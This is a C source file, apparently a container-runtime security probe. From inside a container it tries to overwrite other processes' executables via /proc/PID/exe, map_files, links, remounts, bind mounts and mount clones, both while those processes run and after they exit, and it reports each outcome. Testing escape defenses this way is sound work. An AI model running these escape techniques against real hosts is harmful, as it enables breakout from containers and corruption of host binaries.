// SPDX-License-Identifier: Apache-2.0
// Runs in a hostile container and tries to get at the executable of other
// processes (a runtime's, a created init's) through /proc/PID/exe: to open it
// for writing, to remount, clone, move or bind the mount it lies on, and all
// that again after the process has gone. Where an open succeeds it writes.
// Prints what each attempt returned. Run it only against a copy of a program.
// Usage: exe_attack SECONDS scan|PID...   (scan: every process of this pid
// namespace whose executable is not the container's own)
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { kTargets = 64, kMaps = 4 };

struct target {
  pid_t pid;
  int read_fd, path_fd, tree_fd;
  int map_fd[kMaps], maps;
};

static struct target targets[kTargets];
static int target_count;
static unsigned long attempts;
static struct stat own_exe, own_shell;

static bool same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static long report(const struct target* t, const char* what, long result) {
  int error = errno;
  attempts++;
  printf("%d %s: %s\n", (int)t->pid, what, result >= 0 ? "OK" : strerrorname_np(error));
  errno = error;
  return result;
}

static void spoil(const struct target* t, const char* what, int fd) {
  if (report(t, what, fd) < 0) return;
  report(t, "WROTE", pwrite(fd, "spoilt", 6, 0));
  close(fd);
}

static int open_again(int fd, int flags) {
  char name[40];
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  return open(name, flags | O_CLOEXEC);
}

static long clear_read_only(int fd) {
  struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
  return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
}

static void attack_mount(struct target* t) {
  char name[40], place[64];
  snprintf(name, sizeof name, "/proc/self/fd/%d", t->path_fd);
  snprintf(place, sizeof place, "/tmp/place.%d", (int)t->pid);
  close(open(place, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));

  report(t, "remount bind", mount(NULL, name, NULL, MS_REMOUNT | MS_BIND, NULL));
  report(t, "remount", mount(NULL, name, NULL, MS_REMOUNT, NULL));
  report(t, "mount_setattr", clear_read_only(t->path_fd));
  spoil(t, "open after mount_setattr", open_again(t->path_fd, O_WRONLY));
  report(t, "move_mount", syscall(SYS_move_mount, t->path_fd, "", AT_FDCWD, place, MOVE_MOUNT_F_EMPTY_PATH));
  if (report(t, "bind", mount(name, place, NULL, MS_BIND, NULL)) == 0) {
    report(t, "remount of the bind", mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL));
    spoil(t, "open through the bind", open(place, O_WRONLY | O_CLOEXEC));
  }
  t->tree_fd = (int)report(
      t, "open_tree",
      syscall(SYS_open_tree, t->path_fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
  if (t->tree_fd >= 0) {
    report(t, "mount_setattr of the clone", clear_read_only(t->tree_fd));
    spoil(t, "open through the clone", open_again(t->tree_fd, O_WRONLY));
  }
}

// The mappings of the executable only: a dynamic runtime's libraries are the host's own.
static void attack_mappings(struct target* t, const struct stat* exe) {
  char name[300];
  snprintf(name, sizeof name, "/proc/%d/map_files", (int)t->pid);
  DIR* dir = opendir(name);
  report(t, "open map_files", dir == NULL ? -1 : 0);
  if (dir == NULL) return;
  for (struct dirent* entry; (entry = readdir(dir)) != NULL && t->maps < kMaps;) {
    struct stat st;
    snprintf(name, sizeof name, "/proc/%d/map_files/%s", (int)t->pid, entry->d_name);
    if (entry->d_name[0] == '.' || stat(name, &st) != 0) continue;
    if (!same_file(&st, exe)) continue;
    spoil(t, "open of a mapping", open(name, O_WRONLY | O_CLOEXEC));
    t->map_fd[t->maps++] = open(name, O_PATH | O_CLOEXEC);
  }
  closedir(dir);
}

static void attack(struct target* t) {
  char exe[40];
  struct stat st;
  t->tree_fd = t->path_fd = -1;
  snprintf(exe, sizeof exe, "/proc/%d/exe", (int)t->pid);
  t->read_fd = open(exe, O_RDONLY | O_CLOEXEC);
  if (report(t, "open to read", t->read_fd) < 0) return;
  spoil(t, "open to write", open(exe, O_WRONLY | O_CLOEXEC));
  spoil(t, "reopen to write", open_again(t->read_fd, O_WRONLY));
  report(t, "chmod", chmod(exe, 0777));
  int flags = 0;
  ioctl(t->read_fd, FS_IOC_GETFLAGS, &flags);
  flags &= ~FS_IMMUTABLE_FL;
  report(t, "clear immutable", ioctl(t->read_fd, FS_IOC_SETFLAGS, &flags));
  t->path_fd = open(exe, O_PATH | O_CLOEXEC);
  if (report(t, "open as path", t->path_fd) < 0 || fstat(t->path_fd, &st) != 0) return;
  report(t, "link", linkat(t->path_fd, "", AT_FDCWD, "/tmp/link", AT_EMPTY_PATH));
  spoil(t, "open through the link", open("/tmp/link", O_WRONLY | O_CLOEXEC));
  unlink("/tmp/link");
  attack_mount(t);
  attack_mappings(t, &st);
}

// What was held open outlives the process; ETXTBSY no longer protects it then.
static void attack_afterwards(struct target* t) {
  if (t->read_fd < 0 || t->path_fd < 0) return;
  spoil(t, "reopen to write afterwards", open_again(t->read_fd, O_WRONLY));
  spoil(t, "open the path afterwards", open_again(t->path_fd, O_WRONLY));
  report(t, "mount_setattr afterwards", clear_read_only(t->path_fd));
  int tree = (int)syscall(SYS_open_tree, t->path_fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
  if (report(t, "open_tree afterwards", tree) >= 0) {
    report(t, "mount_setattr of the clone afterwards", clear_read_only(tree));
    spoil(t, "open through the clone afterwards", open_again(tree, O_WRONLY));
    close(tree);
  }
  if (t->tree_fd >= 0) spoil(t, "open through the old clone afterwards", open_again(t->tree_fd, O_WRONLY));
  for (int i = 0; i < t->maps; i++)
    spoil(t, "open of a mapping afterwards", open_again(t->map_fd[i], O_WRONLY));
}

static bool readable(pid_t pid) {
  char exe[40];
  snprintf(exe, sizeof exe, "/proc/%d/exe", (int)pid);
  int fd = open(exe, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

static void add(pid_t pid) {
  for (int i = 0; i < target_count; i++) {
    if (targets[i].pid != pid) continue;
    if (targets[i].read_fd < 0 && readable(pid)) attack(&targets[i]);
    return;
  }
  if (target_count == kTargets || pid == getpid()) return;
  struct target* t = &targets[target_count++];
  memset(t, 0, sizeof *t);
  t->pid = pid;
  attack(t);
}

static void scan(void) {
  DIR* dir = opendir("/proc");
  if (dir == NULL) exit(2);
  for (struct dirent* entry; (entry = readdir(dir)) != NULL;) {
    char exe[300];
    struct stat st;
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
    if (stat(exe, &st) == 0 && (same_file(&st, &own_exe) || same_file(&st, &own_shell))) continue;
    add((pid_t)atoi(entry->d_name));
  }
  closedir(dir);
}

static void until_gone(pid_t pid, time_t deadline) {
  while (kill(pid, 0) == 0 && time(NULL) < deadline) usleep(20000);
}

int main(int argc, char** argv) {
  if (argc < 3 || stat("/proc/self/exe", &own_exe) != 0 || stat("/bin/sh", &own_shell) != 0) return 2;
  time_t deadline = time(NULL) + atoi(argv[1]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(argv[2], "scan") == 0) {
    puts("scanning");
    while (time(NULL) < deadline) scan();
  } else {
    for (int i = 2; i < argc; i++) add((pid_t)atoi(argv[i]));
    puts("waiting");
  }
  for (int i = 0; i < target_count; i++) until_gone(targets[i].pid, deadline);
  usleep(200000);
  for (int i = 0; i < target_count; i++) attack_afterwards(&targets[i]);
  printf("made %lu attempts on %d processes\n", attempts, target_count);
  return 0;
}
